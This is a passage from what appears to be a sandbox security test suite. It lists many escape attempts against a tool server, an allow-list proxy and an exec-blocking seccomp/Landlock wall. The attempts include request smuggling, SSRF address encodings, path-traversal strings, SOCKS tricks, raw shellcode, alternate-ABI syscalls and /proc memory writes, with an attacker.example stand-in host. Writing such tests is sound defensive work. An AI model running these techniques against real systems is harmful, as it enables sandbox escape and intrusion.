        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        raw = (f"{method} {target} HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {token}\\r\\n"
               f"Content-Length: {len(data)}\\r\\n{head}\\r\\n").encode() + data
    with to_tools() as connection:
        connection.settimeout(5)
        try:
            connection.sendall(raw)
        except BrokenPipeError:
            pass
        answer = connection.recv(65536).decode(errors="replace")
    status, _, rest = answer.partition("\\r\\n")
    value = rest.rpartition("\\r\\n")[2]
    if status.startswith("HTTP/1.1 200") and '"result"' in value:
        print("ESCAPED:", value)
    elif answer:
        print("refused:", status.split(" ")[1], value)
    else:
        print("refused: closed")
GOOD = {"server_name": "own", "tool_name": "echo", "tool_args": {"text": "raw"}}
"""
attack("call_tools_without_the_token", "tool server", _RAW + """
post(GOOD, token="")
post(GOOD, token="0" * 64)
post(GOOD, token=os.environ["IPYBOX_TOOL_TOKEN"][:-1])
post(GOOD, token=os.environ["IPYBOX_TOOL_TOKEN"] + "0")
post(GOOD, token=os.environ["IPYBOX_TOOL_TOKEN"] + "\\0")
""", by="40[01] .*|closed", profile="tools", sandboxes=ALL)
attack("reach_more_of_the_tool_server", "tool server", _RAW + """
for target in ("/", "/approve", "/reset", "/register", "/run/../approve", "/run?x", "//run", "http://x/run", "*"):
    post(GOOD, target=target)
for method in ("GET", "PUT", "DELETE", "CONNECT", "OPTIONS", "HEAD"):
    post(GOOD, method=method)
""", by="40[0-9] .*|closed", profile="tools", sandboxes=ALL)
attack("register_or_approve_from_inside", "tool server", _RAW + """
post({**GOOD, "approved": True})
post({**GOOD, "server_params": {"command": "sh"}})
post({**GOOD, "session": "other", "origin": "host"})
post({**GOOD, "server_name": "nosuch"})
post({**GOOD, "tool_name": "../echo"})
post({**GOOD, "tool_name": "echo\\0"})
post({**GOOD, "tool_args": {"text": 1}})
post({**GOOD, "tool_args": []})
post({**GOOD, "server_name": ["own"]})
post([GOOD])
post(None)
""", by="200 .*error.*", profile="tools", sandboxes=ALL)
attack("confuse_the_tool_server_s_parser", "tool server", _RAW + """
token = os.environ["IPYBOX_TOOL_TOKEN"]
body = json.dumps(GOOD)
start = f"POST /run HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {token}\\r\\n"
for head in ("Content-Length: 5\\r\\nContent-Length: 6\\r\\n", "Transfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n",
             "Content-Length: -1\\r\\n", "Content-Length: 99999999999999999999\\r\\n", "Content-Length: 0x10\\r\\n",
             "Content-Length: 4294967296\\r\\n", "X: " + "y" * 100_000 + "\\r\\n", "Content-Length : 3\\r\\n", "\\0: x\\r\\n"):
    post(raw=(start + head + "\\r\\n" + body).encode())
post(raw=b"\\x16\\x03\\x01" + bytes(200))
post(b"[" * 200_000)
post(b'{"a":' * 200_000)
post(b"\\xff\\xfe")
post(b"{} {}")
""", by="(4[0-9][0-9]|200|503) .*error.*|4[0-9][0-9].*|closed", profile="tools", sandboxes=ALL)
attack("exhaust_the_tool_server", "tool server", """
connections = []
try:
    for number in range(400):
        each = socket.socket(socket.AF_UNIX)
        each.setblocking(False)
        connections.append(each)
        each.connect(os.environ["IPYBOX_TOOL_SOCKET"])
        if number % 2:
            each.send(b"POST /run HTTP/1.1\\r\\nContent-Length: 30000000\\r\\n")
    print("opened", len(connections))
except OSError as error:
    print("opened", len(connections), why(error))
for each in connections:
    each.close()
from mcptools.own import echo
print("works again:", echo.run(text="fine"))
""", says="^works again: fine", profile="tools", harm=memory_below(500 << 20))
attack("call_a_tool_that_was_not_approved", "approval", """
from mcptools.own import echo
from ipybox_kernel import ApprovalRejectedError
attempt(lambda: echo.run(text="denied"))
threads = [threading.Thread(target=lambda: attempt(lambda: echo.run(text="denied"))) for _ in range(20)]
[t.start() for t in threads]
[t.join() for t in threads]
""", by="ApprovalRejectedError.*", profile="deny", sandboxes=ALL)
attack("read_a_server_s_secrets", "tool server", """
from mcptools.own import echo, environment, die
text = str(environment.run())
print("TOKEN" in text)
try:
    die.run(message="the value is in the environment", code=3)
except Exception as error:
    print("died:", error)
print([v for v in os.environ.values() if "s3cret" in v])
import gc
print("looked")
""", says="^looked", profile="tools", sandboxes=ALL)

attack("have_a_secret_returned_as_a_result", "tool server", """
from ipybox_kernel.client import send
for name in ("TOKEN", "MODE"):  # the second is none, and shows that values do come back
    print(send("own", "environment", {"name": name}))
""", says=r"^{'list': \[{'key \[hidden\]': '\[hidden\]'}\]}\n{'list': \[{'key production': 'production'}\]}$", profile="tools", sandboxes=ALL)
attack("name_a_path_so_that_nobody_can_tell", "approval", """
from mcptools.own import echo
for path in ("../x", "drafts/../../x", "drafts/$HOME", "drafts/${HOME}/x", "~/x", "~", "drafts/%2e%2e/x", "drafts/%252e%252e/x",
             "drafts/..%20/x", "drafts/.. /x", "drafts/x\\0/../../y", "drafts\\\\..\\\\x", "drafts/`id`", "file:///etc/shadow", "", "/etc/shadow"):
    attempt(lambda: echo.run(text=path))
print("allowed:", echo.run(text="drafts/a/../b"))
""", by="ApprovalRejectedError.*", says="^allowed: drafts/a/../b$", profile="judged", sandboxes=ALL)


def recorded(place: Place, outcome: Outcome) -> str:
    """The audit log has the path, however much stands before it."""
    records = [json.loads(line) for line in (place.root / "audit.jsonl").read_text().splitlines()]
    called = [record["arguments"] for record in records if record.get("tool") == "structured" and "arguments" in record]
    if not called or "'/etc/shadow'" not in repr(called[0]):
        return f"the log does not tell the path: {records!r:.1000}"
    return "" if len(json.dumps(called[0])) < 300 << 10 else "the log took all of the padding"


attack("pad_an_argument_until_the_log_leaves_out_the_path", "audit log", """
from ipybox_kernel.client import send
value = {"a" * 300_000: 1, "content": "x" * 300_000, "path": "/etc/shadow"}
for value in ({"content": "x" * 300_000, "path": "/etc/shadow"}, value):
    send("own", "structured", {"value": value})
print("called")
""", says="^called", profile="judged", harm=recorded, sandboxes=ALL)

# ---- through the allow-list ---------------------------------------------------------------------

_PROXY = """
from urllib.parse import urlsplit
PROXY = urlsplit(os.environ["HTTP_PROXY"])
def ask(data, more=b""):
    "Sends bytes to the proxy; a refusal is an answer other than success, or none."
    data = data if isinstance(data, bytes) else data.encode("latin-1")
    with socket.create_connection((PROXY.hostname, PROXY.port), 10) as connection:
        try:
            connection.sendall(data)
            answer = connection.recv(4096)
            if more and answer[:12] not in (b"HTTP/1.1 403", b"HTTP/1.1 400"):
                connection.sendall(more)
                answer = connection.recv(4096)
        except (ConnectionError, TimeoutError) as error:
            answer = b""
    line = answer.split(b"\\r\\n")[0].decode("latin-1")
    if not answer:
        print("refused: closed")
    elif line.startswith("HTTP/") and " 2" in line[8:10]:
        print("ESCAPED:", line)
    elif answer[:1] == b"\\x05" and answer[1:2] == b"\\x00" and len(answer) > 2:
        print("ESCAPED: socks", answer)
    elif answer[:1] in (b"\\x05", b"\\x00"):
        print("refused: socks", answer[1])
    else:
        print("refused:", line)
def tunnel(host_and_port):
    ask(f"CONNECT {host_and_port} HTTP/1.1\\r\\nHost: {host_and_port}\\r\\n\\r\\n")
"""
# Refused by rule: that a name cannot be resolved, or a host not reached, does not count.
_NO = r"HTTP/1\.1 (400|403|405|413|414|431|501) .*|closed|socks (2|7|8|255)"


def proxied(name: str, code: str, **more) -> None:
    attack(name, "network proxy", _PROXY + code, by=_NO, profile="allow-list", needs=("proxy",), **more)


proxied("pass_by_the_proxy", """
def direct(family, address):
    try:
        connect(family, address)
        print("ESCAPED:", address)
    except OSError as error:
        print("refused: closed")
direct(socket.AF_INET, ("1.1.1.1", 443))
direct(socket.AF_INET, ("127.0.0.1", host["tcp"]))
direct(socket.AF_UNIX, host["abstract"])
try:
    print("ESCAPED:", socket.getaddrinfo("allowed.example", 443))
except socket.gaierror:
    print("refused: closed")
""", escapes_without="network")
proxied("ask_for_a_host_that_is_not_allowed", """
for name in ("attacker.example", "example.com", "xallowed.example", "allowed.example.attacker.example", "wild.example",
             "evilwild.example", "denied.wild.example", "DENIED.wild.example", "denied.wild.example.", "example", "x"):
    tunnel(name + ":443")
    ask(f"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n")
""")
proxied("ask_for_addresses", """
port = host["tcp"]
for address in ("127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0x7f.1", "017700000001", "0177.0.0.1",
                "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::]", "[64:ff9b::7f00:1]", "169.254.169.254", "10.0.0.1",
                "1.1.1.1", "[fd00:ec2::254]", "%31%32%37.0.0.1"):
    tunnel(f"{address}:{port}")
    ask(f"GET http://{address}:{port}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
""")
proxied("rebind_an_allowed_name_to_the_host", """
# "localhost" is on the list, and leads to the host itself: the address decides, not the name.
for name in ("localhost", "LOCALHOST", "localhost."):
    for port in (host["tcp"], host["any"], 80, 22):
        tunnel(f"{name}:{port}")
        ask(f"GET http://{name}:{port}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n")
""")
proxied("smuggle_characters_into_a_name", """
for name in ("allowed.example\\0.attacker.example", "attacker.example\\0.allowed.example", "allowed.example\\r\\nX: y",
             "allowed.example@attacker.example", "attacker.example#.allowed.example", "attacker.example/.allowed.example",
             "attacker.example?.allowed.example", "attacker.example%00.allowed.example", "attacker.example\\\\.allowed.example",
             "allowed.example attacker.example", "attacker.example\\t.wild.example", "\\xe0.wild.example", ".wild.example",
             "a..wild.example", "-a.wild.example", "a_b\\n.wild.example", "x" * 64 + ".wild.example", "x." * 200 + "wild.example",
             "*.wild.example", "allowed.example:443:443"):
    tunnel(name + ":443")
    ask(f"GET http://{name}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
""")
proxied("ask_for_odd_ports", """
for port in ("0", "-1", "65536", "4294967739", "443x", "", "0x1bb", " 443", "22", "25"):
    ask(f"CONNECT attacker.example:{port} HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n")
""")
proxied("name_one_host_and_mean_another", """
port = host["tcp"]
ask(f"GET http://attacker.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
ask(f"GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")
ask(f"GET http://allowed.example@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
ask(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: allowed.example:443\\r\\n\\r\\n")
ask(f"GET https://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
ask(f"GET ftp://attacker.example/ HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n")
ask(f"GET file:///etc/passwd HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
""")
proxied("smuggle_a_second_request", """
inner = f"GET http://127.0.0.1:{host['tcp']}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
ask("GET http://attacker.example/ HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
    "0\\r\\n\\r\\n" + inner)
ask("GET http://attacker.example/ HTTP/1.1\\nHost: a\\n\\n" + inner)
ask("GET http://attacker.example/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n" + inner)
ask("GET http://attacker.example/ HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\n" + inner)
ask("GET http://attacker.example/ HTTP/1.1\\r\\nHost: a\\r\\nX: y\\r\\n z\\r\\n\\r\\n" + inner)
ask("GET http://attacker.example/\\rX HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
ask("GET http://attacker.example/ HTTP/9.9\\r\\n\\r\\n")
ask("GET http://attacker.example/ HTTP/1.1\\r\\n" + "X: " + "y" * 200_000 + "\\r\\n\\r\\n")
""")
proxied("use_socks_to_get_around", """
port = struct.pack(">H", host["tcp"])
hello = b"\\x05\\x01\\x00"
def socks(request):
    with socket.create_connection((PROXY.hostname, PROXY.port), 10) as connection:
        try:
            connection.sendall(hello)
            if connection.recv(2) != b"\\x05\\x00":
                return print("refused: closed")
            connection.sendall(request)
            answer = connection.recv(64)
        except (ConnectionError, TimeoutError):
            answer = b""
    if not answer:
        print("refused: closed")
    else:
        print("ESCAPED: socks" if answer[1] == 0 else "refused: socks", answer[1])
def name(text):
    return b"\\x03" + bytes([len(text)]) + text
socks(b"\\x05\\x01\\x00\\x01" + bytes([127, 0, 0, 1]) + port)                      # an IPv4 address
socks(b"\\x05\\x01\\x00\\x04" + bytes(15) + b"\\x01" + port)                       # an IPv6 address
socks(b"\\x05\\x02\\x00" + name(b"allowed.example") + port)                       # BIND
socks(b"\\x05\\x03\\x00" + name(b"allowed.example") + port)                       # UDP ASSOCIATE
for text in (b"attacker.example", b"127.0.0.1", b"localhost", b"allowed.example\\0.attacker.example",
             b"attacker.example\\0.allowed.example", b"attacker.example\\0allowed.example", b"", b"2130706433", b"::1", b"[::1]",
             b"allowed.example\\r\\nx", b"denied.wild.example", b"wild.example", b"\\xff\\xfe"):
    socks(b"\\x05\\x01\\x00" + name(text) + port)
ask(b"\\x04\\x01" + port + bytes([127, 0, 0, 1]) + b"user\\0")                     # SOCKS 4
ask(b"\\x04\\x01" + port + bytes([0, 0, 0, 1]) + b"user\\0attacker.example\\0")     # SOCKS 4a
ask(b"\\x05\\xff" + bytes(10))
""")
proxied("go_through_the_proxy_to_the_proxy", """
tunnel(f"127.0.0.1:{PROXY.port}")
tunnel(f"localhost:{PROXY.port}")
tunnel(f"sandbox:{PROXY.port}")
ask(f"GET http://127.0.0.1:{PROXY.port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
""")
proxied("exhaust_the_proxy", """
connections = []
try:
    for _ in range(600):
        connections.append(socket.create_connection((PROXY.hostname, PROXY.port), 1))
        connections[-1].send(b"GET http://attacker.example/ HTTP/1.1\\r\\nX: ")
except OSError:
    pass
for each in connections:
    each.close()
time.sleep(0.2)
tunnel("attacker.example:443")
""", harm=memory_below(500 << 20))

# ---- starting programs where none may be started ------------------------------------------------

STARTING = """
words = (ctypes.c_char_p * 2)(b"true", None)
none = (ctypes.c_char_p * 1)(None)

def tried(action):
    # In a process of its own, which ends by 0 if it became the program.
    child = os.fork()
    if child == 0:
        try:
            action()
            os._exit(250)
        except OSError as error:
            os._exit(100 + error.errno)
        finally:
            os._exit(251)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status == 0:
        print("ESCAPED: a program ran")
    elif status < 0:
        print("refused:", signal.Signals(-status).name)
    else:
        print("refused:", errno.errorcode.get(status - 100, status))

def machine_code(text, data=b""):
    import mmap
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    page.write(bytes.fromhex(text))
    page.seek(256)
    page.write(data)
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return page, place, ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(place)

def execute(path=b"/bin/true", *registers):
    call("execve", path, words, none, *registers)
"""


# By name: what stops it, code, what refusals say, and without which layers it gets through.
_STARTS = {
    "start_a_program_by_each_call": ("""
true = os.open("/bin/true", os.O_RDONLY)
for path in (b"/bin/true", b"/proc/self/exe", b"/lib64/ld-linux-x86-64.so.2", b"/usr/bin/env"):
    tried(lambda: execute(path))
tried(lambda: call("execveat", -100, b"/bin/true", words, none, 0))
tried(lambda: call("execveat", true, b"", words, none, 0x1000))           # AT_EMPTY_PATH
tried(lambda: call("execveat", true, b"", words, none, 0x11000))          # and AT_EXECVE_CHECK
def by_libc(function, *arguments):
    ctypes.set_errno(0)
    if getattr(libc, function)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), function)
tried(lambda: by_libc("execv", b"/bin/true", words))
tried(lambda: by_libc("fexecve", true, words, none))
""", "EPERM", "programs,last-program"),
    "start_a_program_from_memory": ("""
file = os.memfd_create("x", 0)
os.write(file, open("/bin/true", "rb").read())
tried(lambda: call("execveat", file, b"", words, none, 0x1000))
tried(lambda: execute(b"/proc/self/fd/%d" % file))
open("copied", "wb").write(open("/bin/true", "rb").read()); os.chmod("copied", 0o755)
open("script", "w").write("#!/bin/true\\n"); os.chmod("script", 0o755)
tried(lambda: execute(b"copied"))
tried(lambda: execute(b"script"))
""", "EPERM", "programs,last-program"),
    "start_a_program_through_the_loader": ("""
loader = (ctypes.c_char_p * 3)(b"ld.so", b"/bin/true", None)
place = [line.split()[-1] for line in open("/proc/self/maps") if "/ld-" in line][0].encode()
tried(lambda: call("execve", place, loader, none))
""", "EPERM", "programs,last-program"),
    "start_a_program_by_posix_spawn_and_vfork": ("""
child = ctypes.c_int()
for spawn in (libc.posix_spawn, libc.posix_spawnp):
    error = spawn(ctypes.byref(child), b"/bin/true", None, None, words, none)
    print("refused: " + errno.errorcode[error] if error else "ESCAPED: a program ran")
if os.uname().machine == "x86_64":
    # push rbx; mov rbx, rdi; vfork(); in the child execve(rbx + 256, rbx + 320, 0) and exit_group(-result); pop rbx; ret
    page, place, run = machine_code("534889fbb83a0000000f0585c07522488dbb00010000488db34001000031d2b83b0000000f0589c7f7dfb8e70000000f055bc3",
                                    b"/bin/true".ljust(64, b"\\0"))
    page.seek(320)
    page.write(struct.pack("<QQ", place + 256, 0))
    child = run(place)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    print("refused: " + errno.errorcode[status] if status else "ESCAPED: a program ran")
""", "EPERM", "programs,last-program"),
    "start_a_program_by_each_function_of_the_c_library": ("""
status = libc.system(b"true")
print("ESCAPED: a program ran" if status == 0 else "refused: EPERM" if status == 127 << 8 else status)
libc.popen.restype = ctypes.c_void_p
libc.pclose.argtypes = [ctypes.c_void_p]
stream = libc.popen(b"true", b"r")
status = libc.pclose(stream) if stream else 127 << 8
print("ESCAPED: a program ran" if status == 0 else "refused: EPERM" if status == 127 << 8 else status)
""", "EPERM", "programs,last-program"),
    "start_a_program_from_a_thread": ("""
def run():
    tried(execute)
    # The thread's own call would replace the whole process.
    try: call("execve", b"/nonexistent", words, none)
    except OSError as error: print("refused:" if error.errno == errno.EPERM else "ESCAPED:", errno.errorcode[error.errno])
thread = threading.Thread(target=run)
thread.start(); thread.join()
""", "EPERM", "programs,last-program"),
    "take_the_wall_down": ("""
def add(action, flags=0):
    global kept
    number = _NUMBERS["execve"][os.uname().machine != "x86_64"]
    steps = (0x20, 0, 0, 0), (0x15, 0, 1, number), (6, 0, 0, action), (6, 0, 0, 0x7fff0000)
    kept = ctypes.create_string_buffer(b"".join(struct.pack("<HBBI", *step) for step in steps))
    return call("seccomp", 1, flags, struct.pack("<HxxxxxxQ", 4, ctypes.addressof(kept)))
# A filter that allows it, that logs it, that lets a tracer decide: the strictest answer counts.
for action in (0x7fff0000, 0x7ffc0000, 0x7ff00000):
    tried(lambda: (add(action), execute()))
for flags in (8, 8 | 1 | 16):                 # NEW_LISTENER, and with TSYNC
    tried(lambda: add(0x7fc00000, flags) and os._exit(0))
for mode in (0, 1):
    tried(lambda: (mode == 0 and libc.prctl(22, 0, 0), execute()))   # PR_SET_SECCOMP
libc.prctl(4, 1)                              # dumpable
attempt(lambda: call("ptrace", 0x420c, os.getpid(), 0, 0))   # PTRACE_SECCOMP_GET_FILTER
""", "EPERM", "programs,last-program"),
    "guess_what_the_last_program_was_started_with": ("""
import random
words_of = [(0, 0, 0), (-1, -1, -1), (1, 2, 3)] + [tuple(random.getrandbits(63) for _ in range(3)) for _ in range(20)]
for registers in words_of:
    tried(lambda: execute(b"/bin/true", *registers))
def guess():
    for _ in range(50_000):
        call_number = _NUMBERS["execve"][os.uname().machine != "x86_64"]
        libc.syscall(ctypes.c_long(call_number), b"/bin/true", words, none, *(ctypes.c_long(random.getrandbits(63)) for _ in range(3)))
    raise OSError(ctypes.get_errno(), "refused each time")
tried(guess)
""", "EPERM", ""),
    "start_a_program_by_the_numbers_of_other_abis": ("""
low = b"/bin/true".ljust(64, b"\\0")
for number in (520, 545, 59, 322):            # x32: execve, execveat, and those of x86-64 with its bit
    arguments = (ctypes.c_long(-100), b"/bin/true", words, none, ctypes.c_long(0)) if number in (545, 322) else (b"/bin/true", words, none)
    def x32():
        if libc.syscall(ctypes.c_long(0x40000000 + number), *arguments) == -1:
            raise OSError(ctypes.get_errno(), "x32")
    tried(x32)
# push rbx, rsi; eax, ebx, ecx, edx, esi from rdi + 256; int 0x80; pop rsi, rbx; ret
page, place, enter = machine_code("53564989f8418b8000010000418b9804010000418b8808010000418b900c010000418bb01001000031ffcd805e5bc3")
page.seek(512)
page.write(low + struct.pack("<II", place + 512, 0))
path, vector, empty = place + 512, place + 576, place + 580
for numbers in ((11, path, vector, empty, 0), (358, 0xffffff9c, path, vector, empty), (20, 0, 0, 0, 0)):
    page.seek(256)
    page.write(struct.pack("<5I", *numbers))
    def i386():
        result = enter(place)
        if result == os.getpid():
            os._exit(0)
        raise OSError(-result, "i386")
    tried(i386)
""", "EPERM|ENOSYS|SIGSYS|SIGSEGV|SIGKILL", ""),
    "have_another_process_start_one": ("""
# Of those that the sandbox is made of, not all are behind the wall.
for number in [int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) != os.getpid()]:
    attempt(lambda: open(f"/proc/{number}/mem", "r+b").fileno())
    attempt(lambda: call("ptrace", 16, number, 0, 0))
    attempt(lambda: call("pidfd_getfd", os.pidfd_open(number), 0, 0))
""", "EPERM|EACCES|ENOENT|ESRCH", ""),
    "set_up_what_no_filter_sees": ("""
for number in (425, 426, 427):                # io_uring
    result = libc.syscall(ctypes.c_long(number), 4, ctypes.create_string_buffer(120))
    print("refused:" if result == -1 else "ESCAPED:", errno.errorcode[ctypes.get_errno()])
""", "ENOSYS|EPERM", ""),
    "start_a_program_by_memory_of_ones_own": ("""
# One's own code can be changed at will: what it does are still calls.
with open("/proc/self/mem", "r+b", 0) as memory:
    text = ctypes.create_string_buffer(b"x" * 16)
    memory.seek(ctypes.addressof(text))
    memory.write(b"written by proc.")
    print(text.raw[:7] == b"written")
tried(execute)
""", "EPERM", "programs,last-program"),
}

for _profile, _suffix in (("no-exec", ""), ("no-exec-zmq", "_on_zmq"), ("no-exec-forked", "_in_a_fork"), ("no-exec-relay", "_with_the_whole_disk"),
                          ("no-exec-network", "_with_a_network"), ("asked", "_where_they_are_asked_about"),
                          ("asked-network", "_where_they_are_asked_about_with_a_network")):
    for _name, (_code, _by, _without) in _STARTS.items():
        _needs = ("x86-64",) if "other_abis" in _name else ()
        attack(_name + _suffix, "programs", STARTING + _code, by=_by, profile=_profile, needs=_needs,
               escapes_without=_without if _profile == "no-exec" else "")
attack("write_into_the_first_process", "landlock", STARTING + """
attempt(lambda: open("/proc/1/mem", "r+b").fileno())
""", by="EACCES|EPERM", profile="no-exec", escapes_without="landlock")
